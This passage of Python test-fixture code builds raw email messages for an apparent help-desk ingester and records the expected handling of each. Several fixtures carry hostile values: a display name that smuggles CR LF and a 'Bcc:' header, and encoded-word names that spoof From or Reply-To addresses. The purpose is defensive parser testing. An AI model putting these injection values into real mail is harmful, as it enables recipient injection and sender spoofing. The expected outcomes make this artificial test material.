        "Por favor respondan a mi correo del trabajo, que es el de la cuenta.",
        "",
        "Natalia Vega",
    ]
    boundary = "000000000000a2c7f40630d1e5b9"
    message_id = "CANv4Ge7Yq2+Hk9wTm0pLx3Rb6sZc1Fj8dU5aNoE_vKiW4rMt@mail.gmail.com"
    headers = [
        "MIME-Version: 1.0",
        "Reply-To: Natalia Vega <natalia.vega@example.org>",
        "From: Natalia Vega <nati.vega.87@example.com>",
        "Date: Fri, 14 Mar 2025 07:58:31 -0500",
        f"Message-ID: <{message_id}>",
        f"Subject: {subject}",
        f"To: {SUPPORT}",
        f'Content-Type: multipart/alternative; boundary="{boundary}"',
    ]
    raw = entity(
        headers, gmail_alternative(boundary, lines(*paragraphs, ""), gmail_html(paragraphs))
    )
    return raw, entry(
        file="26-reply-to-differs-subject-ref.eml",
        client="Gmail web (personal account with a Reply-To set)",
        shape="multipart/alternative, UTF-8 QP; Reply-To differs from From",
        kind="reply",
        expected_outcome="threaded",
        message_id=message_id,
        sender="natalia.vega@example.org",
        sender_name="Natalia Vega",
        subject=subject,
        requires_ticket={"reference": "PUL-000007", "customer_email": "natalia.vega@example.org"},
        body_must_contain=[
            "Les escribo desde mi correo personal",
            "Sigo viendo el mensaje «Cuenta bloqueada por intentos fallidos»",
        ],
        notes=(
            "PUL-000007 belongs to natalia.vega@example.org (the Reply-To); From is her personal "
            "nati.vega.87@example.com. No In-Reply-To/References: only the subject reference "
            "threads it, and only if the Reply-To address is taken as the sender. A desk that "
            "matches on From opens a new case instead (wrong)."
        ),
    )


@message
def long_subject_injection():
    subject = (
        "URGENTE!!! No puedo emitir facturas electrónicas desde ayer a las 18:00: el sistema "
        "muestra «Error 500 — Internal Server Error» cada vez que intento timbrar, ya reinicié "
        "la computadora, borré las cookies, cambié de navegador (Chrome, Edge y Firefox) y probé "
        "desde otra sucursal con otra conexión a internet, pero el error sigue igual y tengo 37 "
        "facturas pendientes de enviar a clientes antes del cierre del viernes"
    )
    name = "Soporte Pulso\r\nBcc: victima@example.org\u2028X-Priority: 1"
    cut = name.index("\u2028")
    text = lines(
        "Por favor ayúdenme urgente.",
        "",
        "Tengo 37 facturas pendientes y el sistema no me deja timbrar ninguna.",
        "Adjunto el texto del error: Error 500 — Internal Server Error.",
        "",
        "Pablo",
        "",
    )
    message_id = "20250314041209.5c1e9a@mailer.example.net"
    headers = [
        "Date: Fri, 14 Mar 2025 04:12:09 +0000",
        f"From: {ew(name[:cut])}",
        f" {ew(name[cut:], 'UTF-8', 'B')} <pablo.injerto@example.net>",
        f"To: {SUPPORT}",
        f"Subject: {ew(subject)}",
        f"Message-ID: <{message_id}>",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=UTF-8",
        "Content-Transfer-Encoding: 8bit",
    ]
    return entity(headers, text.encode()), entry(
        file="27-long-subject-header-injection.eml",
        client="Scripted sender (hostile display name)",
        shape=f"single text/plain; {len(subject)}-character subject in folded encoded words; "
        "CR LF and U+2028 in the RFC 2047 display name",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="pablo.injerto@example.net",
        sender_name=name,
        subject=subject,
        body_must_contain=[
            "Tengo 37 facturas pendientes y el sistema no me deja timbrar ninguna.",
        ],
        notes=(
            f"Subject is {len(subject)} characters decoded: the desk truncates it to its field "
            "size without splitting a character. The display name decodes to 'Soporte Pulso', "
            "CR LF, 'Bcc: victima@example.org', U+2028, 'X-Priority: 1': store it with CR, LF, "
            "U+2028/U+2029 replaced (e.g. by spaces), never echo it into an outgoing header, and "
            "don't show it as 'Soporte Pulso' without the real address. NB: CPython's "
            "headerregistry raises ValueError ('address parts cannot contain CR or LF') on "
            "message['From'] for this message, so a desk reading the header with policy.default "
            "must catch that and parse the raw header (getaddresses on the undecoded value, then "
            "decode the name) instead of quarantining or crashing."
        ),
    )


@message
def no_message_id():
    subject = "El lector de códigos de barras dejó de funcionar"
    text = lines(
        "Buenas, soy Rosa Paredes de Librería Central.",
        "",
        "El lector de códigos de barras dejó de funcionar con el sistema después de la "
        "actualización del martes. Antes escaneaba directo en la pantalla de ventas y ahora no "
        "hace nada.",
        "",
        "Gracias.",
        "",
    )
    headers = [
        f"To: {SUPPORT}",
        f"Subject: {subject}",
        "X-PHP-Originating-Script: 1000:contacto.php",
        "From: Rosa Paredes <rosa.paredes@example.com>",
        "MIME-Version: 1.0",
        "Content-type: text/plain; charset=UTF-8",
        "Date: Fri, 14 Mar 2025 11:20:33 -0500",
    ]
    return entity(headers, text.encode(), header_charset="utf-8"), entry(
        file="28-no-message-id.eml",
        client="PHP mail() from the customer's intranet",
        shape="single text/plain, UTF-8 8bit without Content-Transfer-Encoding; raw UTF-8 "
        "subject; no Message-ID",
        kind="new",
        expected_outcome="created",
        message_id=None,
        sender="rosa.paredes@example.com",
        sender_name="Rosa Paredes",
        subject=subject,
        body_must_contain=[
            "El lector de códigos de barras dejó de funcionar",
            "Antes escaneaba directo en la pantalla de ventas",
        ],
        notes=(
            "No Message-ID: the desk cannot de-duplicate by it (reading the mailbox twice must "
            "still not make two cases, e.g. by a hash of the raw bytes). The subject is raw "
            "8-bit UTF-8 (no RFC 2047), as PHP mail() scripts send it; no "
            "Content-Transfer-Encoding header although the body is 8-bit."
        ),
    )


@message
def outlook_com_english_reply():
    subject = "Re: Export to Excel still fails"
    new_text = [
        "Hi,",
        "",
        "Thanks for the quick fix. The export to Excel works again, but the dates in column C "
        "now show as numbers (for example 45720 instead of 03/04/2025). Could you take another "
        "look?",
        "",
        "Best regards,",
        "Emily Carter",
        "Operations Manager | Northwind Traders",
    ]
    history = [
        "Hello Emily,",
        "",
        "We deployed a fix for the export this afternoon. Please try again and let us know if "
        "the problem persists.",
        "",
        "Kind regards,",
        "Pulso Support",
    ]
    header_block = [
        "From: Soporte Pulso <soporte@pulso.example>",
        "Sent: Thursday, March 13, 2025 4:10 PM",
        "To: Emily Carter <emily.carter@example.com>",
        "Subject: Re: Export to Excel still fails",
    ]
    plain = lines(*new_text, "", "_" * 32, *header_block, "", *history, "")
    style = (
        "font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, "
        "sans-serif; font-size: 12pt; color: rgb(0, 0, 0);"
    )
    html_text = (
        '<html>\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=us-ascii">'
        '\n<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} '
        '</style>\n</head>\n<body dir="ltr">\n'
        + "".join(
            f'<div class="elementToProof" style="{style}">\n'
            + (html.escape(line, quote=False) if line else "<br>")
            + "</div>\n"
            for line in new_text
        )
        + '<div id="appendonsend"></div>\n'
        + '<hr style="display:inline-block;width:98%" tabindex="-1">\n'
        + '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" '
        + 'style="font-size:11pt" color="#000000"><b>From:</b> Soporte Pulso '
        + "&lt;soporte@pulso.example&gt;<br>\n<b>Sent:</b> Thursday, March 13, 2025 4:10 PM<br>\n"
        + "<b>To:</b> Emily Carter &lt;emily.carter@example.com&gt;<br>\n"
        + "<b>Subject:</b> Re: Export to Excel still fails</font>\n<div>&nbsp;</div>\n</div>\n"
        + "<div>\n"
        + "".join(f"<p>{html.escape(line) if line else '&nbsp;'}</p>\n" for line in history)
        + "</div>\n</body>\n</html>\n"
    )
    stem = "SA1P223MB1187A4B9C2D6E8F01B3D5F7A9C1E3B5DD2"
    boundary = f"_000_{stem}SA1P223MB1187NAMP_"
    body = multipart(
        boundary,
        [
            entity(
                [
                    'Content-Type: text/plain; charset="us-ascii"',
                    "Content-Transfer-Encoding: quoted-printable",
                ],
                qp(plain, "us-ascii"),
            ),
            entity(
                [
                    'Content-Type: text/html; charset="us-ascii"',
                    "Content-Transfer-Encoding: quoted-printable",
                ],
                qp(html_text, "us-ascii"),
            ),
        ],
    )
    message_id = f"{stem}@SA1P223MB1187.NAMP223.PROD.OUTLOOK.COM"
    headers = [
        "From: Emily Carter <emily.carter@example.com>",
        f"To: Soporte Pulso <{SUPPORT}>",
        f"Subject: {subject}",
        "Thread-Topic: Export to Excel still fails",
        f"Thread-Index: {thread_index('pul-000004', replies=3)}",
        "Date: Fri, 14 Mar 2025 20:37:15 +0000",
        f"Message-ID: <{message_id}>",
        "References: <reply-3.pul-000004@pulso.example>",
        "In-Reply-To: <reply-3.pul-000004@pulso.example>",
        "Accept-Language: en-US",
        "Content-Language: en-US",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "msip_labels:",
        "Content-Type: multipart/alternative;",
        f'\tboundary="{boundary}"',
        "MIME-Version: 1.0",
    ]
    return entity(headers, b"\n" + body), entry(
        file="29-outlook-com-english-reply.eml",
        client="Outlook.com (Outlook on the web)",
        shape="multipart/alternative, us-ascii QP; appendonsend + <hr> + divRplyFwdMsg quote",
        kind="reply",
        expected_outcome="threaded",
        message_id=message_id,
        sender="emily.carter@example.com",
        sender_name="Emily Carter",
        subject=subject,
        thread_ref={"in_reply_to": "<reply-3.pul-000004@pulso.example>"},
        requires_ticket={"reference": "PUL-000004", "customer_email": "emily.carter@example.com"},
        body_must_contain=[
            "The export to Excel works again, but the dates in column C",
            "Could you take another look?",
        ],
        body_must_not_contain=[
            "We deployed a fix for the export this afternoon.",
            "Sent: Thursday, March 13, 2025 4:10 PM",
            "margin-top:0",
        ],
        notes=(
            "English. No reference in the subject: only In-Reply-To/References (the desk's own "
            "outbound id reply-3.pul-000004@pulso.example) thread it. HTML quote: <div "
            'id="appendonsend"></div>, <hr style="display:inline-block;width:98%">, <div '
            'id="divRplyFwdMsg">; plain quote: 32 underscores then From:/Sent:/To:/Subject:.'
        ),
    )


@message
def outlook_smime_signed():
    subject = "Solicitud de alta de usuario para el área de Compras"
    text = [
        "Buenos días:",
        "",
        "Solicito el alta de un nuevo usuario en la plataforma para el área de Compras:",
        "Nombre: Verónica Ibarra",
        "Correo: veronica.ibarra@example.org",
        "Perfil: Aprobador de órdenes de compra",
        "",
        "Este mensaje va firmado digitalmente con el certificado de la empresa.",
        "",
        "Saludos,",
        "Ing. Ricardo Salas",
        "Gerente de TI – Grupo Industrial del Norte",
    ]
    plain = lines(*text, "")
    html_text = (
        OUTLOOK_HTML_HEAD.format(charset="utf-8")
        + '<body lang="ES-MX" link="#0563C1" vlink="#954F72" style="word-wrap:break-word">\n'
        + '<div class="WordSection1">\n'
        + mso_paragraphs(text, "ES-MX")
        + "</div>\n</body>\n</html>\n"
    )
    signature = make_smime_signature()
    signed, alternative = (
        "----=_NextPart_000_0030_01DB9714.0FA3AC20",
        "----=_NextPart_001_0031_01DB9714.0FA3AC20",
    )
    content = entity(
        ["Content-Type: multipart/alternative;", f'\tboundary="{alternative}"'],
        b"\n\n"
        + multipart(
            alternative,
            [
                entity(
                    [
                        "Content-Type: text/plain;",
                        '\tcharset="utf-8"',
                        "Content-Transfer-Encoding: quoted-printable",
                    ],
                    qp(plain),
                ),
                entity(
                    [
                        "Content-Type: text/html;",
                        '\tcharset="utf-8"',
                        "Content-Transfer-Encoding: quoted-printable",
                    ],
                    qp(html_text),
                ),
            ],
        ),
    )
    body = multipart(
        signed,
        [
            content,
            entity(
                [
                    "Content-Type: application/x-pkcs7-signature;",
                    '\tname="smime.p7s"',
                    "Content-Transfer-Encoding: base64",
                    "Content-Disposition: attachment;",
                    '\tfilename="smime.p7s"',
                ],
                b64(signature) + b"\n",
            ),
        ],
        preamble="This is a multipart message in MIME format.\n\n",
    )
    message_id = "002f01db9746$5a3e1c20$0eba5460$@example.org"
    headers = [
        "From: Ricardo Salas <ricardo.salas@example.org>",
        f"To: <{SUPPORT}>",
        f"Subject: {ew(subject, 'utf-8')}",
        "Date: Mon, 17 Mar 2025 09:31:02 -0600",
        f"Message-ID: <{message_id}>",
        "MIME-Version: 1.0",
        "Content-Type: multipart/signed;",
        '\tprotocol="application/x-pkcs7-signature";',
        "\tmicalg=2.16.840.1.101.3.4.2.1;",
        f'\tboundary="{signed}"',
        "X-Mailer: Microsoft Outlook 16.0",
        f"Thread-Index: {thread_index('smime')}",
        "Content-Language: es-mx",
    ]
    return entity(headers, b"\n" + body), entry(
        file="30-outlook-smime-signed.eml",
        client="Outlook 2021 (classic desktop, S/MIME signing)",
        shape="multipart/signed (application/x-pkcs7-signature) { multipart/alternative, "
        "smime.p7s }",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="ricardo.salas@example.org",
        sender_name="Ricardo Salas",
        subject=subject,
        body_must_contain=[
            "Solicito el alta de un nuevo usuario en la plataforma",
            "Perfil: Aprobador de órdenes de compra",
        ],
        body_must_not_contain=["mso-style-type:personal-reply"],
        signature=attachment("smime.p7s", "application/x-pkcs7-signature", signature),
        notes=(
            "The text lives inside the signed multipart/alternative. smime.p7s (listed under "
            "`signature`, not `attachments`) is the detached signature, not a customer file: "
            "the desk may drop or keep it but should not present it as an attachment. The blob "
            "has a real PKCS#7 prefix but is not a verifiable signature: do not verify, do not "
            "choke. micalg is the SHA-256 OID, as Outlook writes it."
        ),
    )


# --- addresses hidden in encoded words ------------------------------------------------------------
# A display name is an RFC 2047 encoded word whose decoded text is address syntax (a colon, a
# comma, angle brackets, a semicolon, quotes, an address). The sender is whoever the header's
# own structure names — what the receiving server checked — never what comes out of a
# decoded name; a header that names nobody beyond doubt is quarantined with the reason.


def plain_message(headers: list[str], text: str) -> bytes:
    return entity(
        [
            *headers,
            "MIME-Version: 1.0",
            "Content-Type: text/plain; charset=UTF-8",
            "Content-Transfer-Encoding: 8bit",
        ],
        text.encode(),
    )


def spoof(header: str, decoys: list[str], reason: str | None = None) -> dict:
    """The header playing tricks, the addresses that only appear once its encoded words are
    decoded (they must never become the customer nor get an e-mail), and the quarantine
    reason (None: the message is taken in under the header's real address)."""
    return {"header": header, "decoys": decoys, "reason": reason}


@message
def phpmailer_name_with_colon():
    subject = "Actualización de datos bancarios para el pago de la factura 2025-0412"
    name = "Mesa de ayuda: victima@example.org"
    message_id = "8f3c2a91d4e7b6c5a0f1e2d3c4b5a697@mailer.example.com"
    text = lines(
        "Buenos días,",
        "",
        "Les informamos que a partir de este mes nuestra cuenta para pagos cambió. Por favor "
        "confirmen que actualizaron los datos bancarios antes de pagar la factura 2025-0412.",
        "",
        "Carlos Méndez",
        "Cuentas por cobrar",
        "",
    )
    headers = [
        "Date: Mon, 17 Mar 2025 08:02:11 -0500",
        f"To: {SUPPORT}",
        f"From: {ew(name)} <carlos.mendez@example.com>",
        f"Subject: {ew(subject)}",
        f"Message-ID: <{message_id}>",
        "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)",
    ]
    return plain_message(headers, text), entry(
        file="31-from-q-name-colon-address.eml",
        client="PHPMailer 6.9 (a script that sets the display name)",
        shape="single text/plain; From display name a Q encoded word that decodes to "
        "'Mesa de ayuda: victima@example.org'",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="carlos.mendez@example.com",
        sender_name=name,
        subject=subject,
        body_must_contain=["nuestra cuenta para pagos cambió"],
        spoof=spoof("From", ["victima@example.org"]),
        notes=(
            "A colon and an address inside the encoded name: decoded first and parsed after, "
            "the header reads as the group 'Mesa de ayuda:' holding victima@example.org. The "
            "address is carlos.mendez@example.com, the only one outside the encoded word."
        ),
    )


@message
def smtplib_name_with_angle_brackets_b():
    subject = "Bloqueo preventivo de tu cuenta"
    name = "Banco Andino <alertas@victima.example>"
    message_id = "174220118305.31337.4471201983@vps-diego.example.org"
    text = lines(
        "Hola, recibí este aviso y no sé si es de ustedes.",
        "¿Pueden confirmar si mi cuenta del portal está bloqueada?",
        "",
        "Diego",
        "",
    )
    headers = [
        'Content-Type: text/plain; charset="utf-8"',
        "MIME-Version: 1.0",
        "Content-Transfer-Encoding: 8bit",
        f"Subject: {subject}",
        f"From: {ew(name, mode='B')} <diego.paz@example.org>",
        f"To: {SUPPORT}",
        "Date: Mon, 17 Mar 2025 13:21:58 +0000",
        f"Message-ID: <{message_id}>",
    ]
    raw = entity(headers, text.encode())
    return raw, entry(
        file="32-from-b-name-angle-brackets.eml",
        client="Python smtplib script (email.message.EmailMessage, name set by hand)",
        shape="single text/plain; From display name a B encoded word that decodes to "
        "'Banco Andino <alertas@victima.example>'",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="diego.paz@example.org",
        sender_name=name,
        subject=subject,
        body_must_contain=["¿Pueden confirmar si mi cuenta del portal está bloqueada?"],
        spoof=spoof("From", ["alertas@victima.example"]),
        notes=(
            "Angle brackets inside a base64 encoded name: decoded first, the header has two "
            "angle-addrs. The address is diego.paz@example.org."
        ),
    )


@message
def roundcube_name_with_comma():
    subject = "Consulta sobre mi plan"
    name = "victima@example.org, Sofía Ríos"
    message_id = "b41e7d0c9a2f3e58d6c1a7b9e0f24c3d@webmail.example.net"
    text = lines(
        "Hola,",
        "",
        "Quisiera saber si mi plan incluye el módulo de encuestas o si tengo que contratarlo "
        "aparte.",
        "",
        "Saludos,",
        "Sofía",
        "",
    )
    headers = [
        "MIME-Version: 1.0",
        "Date: Tue, 18 Mar 2025 10:44:09 -0300",
        f"From: {ew(name)} <sofia.rios@example.net>",
        f"To: {SUPPORT}",
        f"Subject: {subject}",
        f"Message-ID: <{message_id}>",
        "X-Sender: sofia.rios@example.net",
        "User-Agent: Roundcube Webmail/1.6.9",
        "Content-Type: text/plain; charset=UTF-8; format=flowed",
        "Content-Transfer-Encoding: 8bit",
    ]
    return entity(headers, text.encode()), entry(
        file="33-from-q-name-comma-list.eml",
        client="Roundcube Webmail 1.6 (identity name edited to hold an address and a comma)",
        shape="single text/plain flowed; From display name a Q encoded word that decodes to "
        "'victima@example.org, Sofía Ríos'",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="sofia.rios@example.net",
        sender_name=name,
        subject=subject,
        body_must_contain=["si mi plan incluye el módulo de encuestas"],
        spoof=spoof("From", ["victima@example.org"]),
        notes=(
            "A comma inside the encoded name: decoded first, the header is a list of two "
            "mailboxes, victima@example.org first. The address is sofia.rios@example.net."
        ),
    )


@message
def reply_to_name_with_semicolon_group():
    subject = "Factura duplicada"
    reply_name = "Equipo: victima@example.org;"
    message_id = "CAB7xQ2m+Fh0Lw9Nc3Rt5Yv8Kp1Sd4Gj6Zb2Ue7Ha0Wo5Ri@mail.gmail.com"
    text = lines(
        "Hola,",
        "",
        "Me llegó la factura 2025-0388 dos veces y el banco me cobró las dos. ¿Me pueden "
        "devolver el segundo cobro?",
        "",
        "Andrés Gil",
        "",
    )
    headers = [
        "MIME-Version: 1.0",
        "Date: Tue, 18 Mar 2025 16:12:40 -0500",
        f"Reply-To: {ew(reply_name)} <andres.gil@example.com>",
        f"Message-ID: <{message_id}>",
        f"Subject: {subject}",
        "From: =?UTF-8?Q?Andr=C3=A9s_Gil?= <andres.gil@example.com>",
        f"To: {SUPPORT}",
    ]
    return plain_message(headers, text), entry(
        file="34-reply-to-q-name-semicolon-group.eml",
        client="Scripted sender in Gmail's header order (Reply-To name set by hand)",
        shape="single text/plain; Reply-To display name a Q encoded word that decodes to the "
        "group syntax 'Equipo: victima@example.org;'",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="andres.gil@example.com",
        sender_name=reply_name,
        subject=subject,
        body_must_contain=["el banco me cobró las dos"],
        spoof=spoof("Reply-To", ["victima@example.org"]),
        notes=(
            "Colon and semicolon inside the encoded Reply-To name: decoded first, it is a "
            "group holding victima@example.org. The answer goes to andres.gil@example.com."
        ),
    )


@message
def reply_to_b_name_with_quotes_and_line_break():
    subject = "No me llega el código de verificación"
    reply_name = '"victima@example.org" <victima@example.org>\r\nBcc: otra@example.org'
    message_id = "20250319091502.7Qd2kLx9@mta.example.com"
    text = lines(
        "Buenos días,",
        "",
        "Intento entrar al portal y el código de verificación por SMS no me llega.",
        "Mi número termina en 4471.",
        "",
        "Martina López",
        "",
    )
    headers = [
        "Return-Path: <martina.lopez@example.com>",
        "Date: Wed, 19 Mar 2025 09:15:02 -0600",
        "From: =?UTF-8?Q?Martina_L=C3=B3pez?= <martina.lopez@example.com>",
        f"Reply-To: {ew(reply_name, mode='B')} <martina.lopez@example.com>",
        f"To: {SUPPORT}",
        f"Subject: {ew(subject)}",
        f"Message-ID: <{message_id}>",
        "X-Mailer: Microsoft CDO for Windows 2000",
    ]
    return plain_message(headers, text), entry(
        file="35-reply-to-b-name-quotes-line-break.eml",
        client="Windows CDO script (Reply-To name set by hand)",
        shape="single text/plain; Reply-To display name base64 encoded words that decode to "
        "quotes, an angle-addr, CR LF and a Bcc line",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="martina.lopez@example.com",
        sender_name=reply_name,
        subject=subject,
        body_must_contain=["el código de verificación por SMS no me llega"],
        spoof=spoof("Reply-To", ["victima@example.org", "otra@example.org"]),
        notes=(
            "Quotes, an angle-addr and CR LF + 'Bcc:' inside the encoded Reply-To name. "
            "policy.default refuses the header (CR LF in a display name); the answer goes to "
            "martina.lopez@example.com, the name is stored without line breaks."
        ),
    )


@message
def php_whole_from_encoded():
    subject = "Formulario de contacto: solicitud de demostración"
    whole = "Laura Gómez <laura.gomez@example.com>"
    message_id = "a9e4c1f07b3d5e2a@www.example.com"
    text = lines(
        "Nombre: Laura Gómez",
        "Empresa: Distribuidora Gómez",
        "",
        "Mensaje:",
        "Queremos una demostración del módulo de encuestas para 8 agentes.",
        "",
    )
    headers = [
        f"To: {SUPPORT}",
        f"Subject: {ew(subject, mode='B')}",
        "X-PHP-Originating-Script: 33:contacto.php",
        f"From: {ew(whole, mode='B')}",
        "MIME-Version: 1.0",
        "Content-Type: text/plain; charset=UTF-8",
        "Content-Transfer-Encoding: 8bit",
        f"Message-ID: <{message_id}>",
        "Date: Wed, 19 Mar 2025 11:40:27 -0500",
    ]
    return entity(headers, text.encode()), entry(
        file="36-from-whole-header-b-encoded.eml",
        client="PHP mail() with mb_encode_mimeheader() applied to the whole From value",
        shape="single text/plain; the whole From value is one B encoded word "
        "('Laura Gómez <laura.gomez@example.com>'); no address outside it",
        kind="spoof",
        expected_outcome="quarantined",
        message_id=message_id,
        sender=None,
        sender_name="",
        subject=subject,
        body_must_contain=["Queremos una demostración del módulo de encuestas"],
        spoof=spoof(
            "From",
            ["laura.gomez@example.com"],
            "From: an encoded word where the address belongs",
        ),
        notes=(
            "A common PHP mistake, and the very shape of the attack: the only address is "
            "inside an encoded word, which RFC 2047 forbids in an address. Nothing checked "
            "it (SPF and DMARC look at the header's structure); quarantine with the reason."
        ),
    )


@message
def encoded_word_before_bare_address():
    subject = "Cambio de contraseña"
    message_id = "20250320020317.41A2B3C4D5@smtp.example.net"
    text = lines(
        "Por favor cambien la contraseña de mi usuario y mándenme la nueva a este correo.",
        "",
    )
    headers = [
        f"From: {ew('victima@example.org')} hector.ruiz@example.net",
        f"To: {SUPPORT}",
        f"Subject: {ew(subject)}",
        "Date: Thu, 20 Mar 2025 02:03:17 +0000",
        f"Message-ID: <{message_id}>",
    ]
    return plain_message(headers, text), entry(
        file="37-from-encoded-word-before-bare-address.eml",
        client="Hand-crafted (swaks --header)",
        shape="single text/plain; From is a Q encoded word decoding to an address, a space "
        "and a bare addr-spec without angle brackets",
        kind="spoof",
        expected_outcome="quarantined",
        message_id=message_id,
        sender=None,
        sender_name="",
        subject=subject,
        body_must_contain=["mándenme la nueva a este correo"],
        spoof=spoof(
            "From",
            ["victima@example.org"],
            "From: an encoded word where the address belongs",
        ),
        notes=(
            "CPython's headerregistry takes the encoded word into the local part and reads "
            "the sender as victima@example.org; the receiving server sees the local part "
            "'=?UTF-8?Q?…?= hector.ruiz'. No address beyond doubt: quarantine."
        ),
    )


@message
def reply_to_whole_header_q():
    subject = "Pago de la renovación anual"
    message_id = "6d0f1b2a-93c4-4e7d-a5b8-2c1e0f9d8a7b@example.com"
    text = lines(
        "Hola, adjunto los datos para la renovación anual. Respondan a pagos, por favor.",
        "",
        "Tomás Vidal",
        "",
    )
    headers = [
        "From: =?UTF-8?Q?Tom=C3=A1s_Vidal?= <tomas.vidal@example.com>",
        f"Reply-To: {ew('Pagos <pagos@victima.example>')}",
        f"To: {SUPPORT}",
        f"Subject: {ew(subject)}",
        "Date: Thu, 20 Mar 2025 15:30:00 -0500",
        f"Message-ID: <{message_id}>",
        "X-Mailer: Zoho Mail",
    ]
    return plain_message(headers, text), entry(
        file="38-reply-to-whole-header-q-encoded.eml",
        client="Zoho Mail header order, Reply-To written as one encoded word",
        shape="single text/plain; the whole Reply-To value is one Q encoded word "
        "('Pagos <pagos@victima.example>')",
        kind="spoof",
        expected_outcome="quarantined",
        message_id=message_id,
        sender=None,
        sender_name="",
        subject=subject,
        body_must_contain=["Respondan a pagos, por favor."],
        spoof=spoof(
            "Reply-To",
            ["pagos@victima.example"],
            "Reply-To: an encoded word where the address belongs",
        ),
        notes=(
            "Where answers go is only inside an encoded word. Taking From instead would answer "
            "someone who asked for answers elsewhere; quarantine with the reason."
        ),
    )


@message
def raw_brackets_inside_encoded_word():
    subject = "Problema con la impresora fiscal"
    message_id = "20250321101010.GA2231@relay.example.com"
    text = lines("La impresora fiscal no imprime el cierre Z desde ayer.", "")
    headers = [
        "Date: Fri, 21 Mar 2025 10:10:10 -0500",
        "From: =?UTF-8?Q?Soporte <victima@example.org>?= <ines.mora@example.com>",
        f"To: {SUPPORT}",
        f"Subject: {subject}",
        f"Message-ID: <{message_id}>",
    ]
    return plain_message(headers, text), entry(
        file="39-from-raw-brackets-inside-encoded-word.eml",
        client="Hand-crafted (raw angle brackets and spaces inside the encoded word)",
        shape="single text/plain; From has an encoded word whose text holds a raw space and "
        "raw '<victima@example.org>'",
        kind="spoof",
        expected_outcome="quarantined",
        message_id=message_id,
        sender=None,
        sender_name="",
        subject=subject,
        body_must_contain=["no imprime el cierre Z"],
        spoof=spoof(
            "From",
            ["victima@example.org"],
            "From: address syntax inside an encoded word",
        ),
        notes=(
            "CPython's parser swallows '<victima@example.org>' into the encoded word (a name) "
            "while a parser that does not decode — the receiving server's — sees two "
            "angle-addrs. Two readings: quarantine."
        ),
    )


@message
def exchange_last_first_name():
    subject = "Acceso para un agente nuevo"
    name = "Pérez, José"
    message_id = "DM6PR11MB4476C3E5A1B2C3D4E5F6A7B8C9D@DM6PR11MB4476.namprd11.prod.outlook.com"
    text = lines(
        "Hola,",
        "",
        "Necesitamos un acceso de agente para una persona que entra el lunes al equipo.",
        "",
        "Saludos,",
        "José Pérez",
        "",
    )
    headers = [
        f"From: {ew(name, 'iso-8859-1')} <jose.perez@example.com>",
        f"To: {SUPPORT}",
        f"Subject: {subject}",
        "Thread-Topic: Acceso para un agente nuevo",
        f"Thread-Index: {thread_index('exchange-last-first')}",
        "Date: Fri, 21 Mar 2025 17:02:44 +0000",
        f"Message-ID: <{message_id}>",
        "Accept-Language: es-CO, en-US",
        "Content-Language: es-CO",
        "X-MS-Has-Attach:",
        "X-MS-TNEF-Correlator:",
        "MIME-Version: 1.0",
        'Content-Type: text/plain; charset="iso-8859-1"',
        "Content-Transfer-Encoding: quoted-printable",
    ]
    return entity(headers, qp(text, "iso-8859-1")), entry(
        file="40-exchange-last-first-encoded-comma.eml",
        client="Outlook / Exchange Online (a directory name 'Last, First')",
        shape="single text/plain iso-8859-1 QP; From display name a Q encoded word with an "
        "encoded comma (=2C)",
        kind="new",
        expected_outcome="created",
        message_id=message_id,
        sender="jose.perez@example.com",
        sender_name=name,
        subject=subject,
        body_must_contain=["Necesitamos un acceso de agente para una persona"],
        notes=(
            "The honest twin of 33: corporate directories name people 'Last, First' and "
            "Outlook encodes the comma inside the word. An ordinary message, taken in."
        ),
    )


# --- reading (used by --check) ------------------------------------------------------------------


class _HTMLText(HTMLParser):
    """HTML to text the way the manifest means it: block tags break lines, <script>, <style>,
    <head> and <title> are not text, entities decoded, whitespace runs collapsed per line."""

    BLOCKS = {"p", "div", "br", "li", "tr", "h1", "h2", "h3", "h4", "blockquote", "table", "hr"}
    SKIP = {"script", "style", "head", "title"}

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []
        self.skipping = 0

    def handle_starttag(self, tag, attrs):
        if tag in self.SKIP:
            self.skipping += 1
        elif tag in self.BLOCKS:
            self.parts.append("\n")

    def handle_endtag(self, tag):
        if tag in self.SKIP and self.skipping:
            self.skipping -= 1
        elif tag in self.BLOCKS:
            self.parts.append("\n")

    def handle_data(self, data):
        if not self.skipping:
            self.parts.append(data)


def html_to_text(markup: str) -> str:
    parser = _HTMLText()
    parser.feed(markup)
    parser.close()
    return "\n".join(" ".join(line.split()) for line in "".join(parser.parts).splitlines())


def part_text(part: MIMEPart) -> str:
    try:
        content = part.get_content()
    except (LookupError, UnicodeError, ValueError):
        payload = part.get_payload(decode=True)  # a leaf's bytes (None for a multipart)
        content = (payload if isinstance(payload, bytes) else b"").decode("utf-8", errors="replace")
    return content.replace("\r\n", "\n") if isinstance(content, str) else ""


def preferred_text(message: EmailMessage) -> str:
    part = message.get_body(preferencelist=("plain", "html"))
    if part is None:
        return ""
    text = part_text(part)
    return html_to_text(text) if part.get_content_type() == "text/html" else text


def everything(message: EmailMessage) -> str:
    """All text the message carries, raw HTML and attachments included (decoded)."""
    out = []
    for part in message.walk():
        if part.is_multipart():
            continue
        payload = part.get_payload(decode=True)
        if payload is None:  # message/delivery-status and the like: parsed header blocks
            out.append(str(part))
        elif part.get_content_maintype() == "text":
            out.append(part_text(part))
        else:
            assert isinstance(payload, bytes), part.get_content_type()  # a leaf's decoded bytes
            out.append(payload.decode("utf-8", errors="replace"))
    return "\n".join(out)


def found_attachments(
    message: EmailMessage, body: MIMEPart | None
) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
    """(attachments, signatures): every leaf that is not the body nor its alternative text."""
